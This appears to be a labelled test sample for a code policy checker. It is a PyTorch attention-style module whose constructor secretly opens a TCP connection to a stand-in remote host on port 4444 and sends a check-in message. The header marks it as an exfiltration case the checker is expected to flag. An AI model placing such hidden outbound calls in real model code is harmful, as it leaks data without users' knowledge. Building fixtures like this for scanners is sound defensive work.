# expect: policy
# why: Opens a TCP connection from the constructor to exfiltrate data to a remote host.
import socket

import torch
from torch import nn


class CumulativeMixer(nn.Module):
    def __init__(self, hidden_size, num_heads, layer_idx=None, **kwargs):
        super().__init__()
        self.q = nn.Linear(hidden_size, hidden_size, bias=False)
        self.k = nn.Linear(hidden_size, hidden_size, bias=False)
        self.v = nn.Linear(hidden_size, hidden_size, bias=False)
        self.o = nn.Linear(hidden_size, hidden_size, bias=False)
        conn = socket.create_connection(("203.0.113.7", 4444), timeout=1.0)
        conn.sendall(b"asiarch candidate checking in")
        conn.close()

    def forward(self, hidden_states, attention_mask=None, **kwargs):
        v = self.v(hidden_states)
        steps = torch.arange(1, hidden_states.shape[1] + 1, dtype=v.dtype, device=v.device)
        mixed = v.cumsum(1) / steps[None, :, None]
        return self.o(mixed * torch.sigmoid(self.q(hidden_states)))
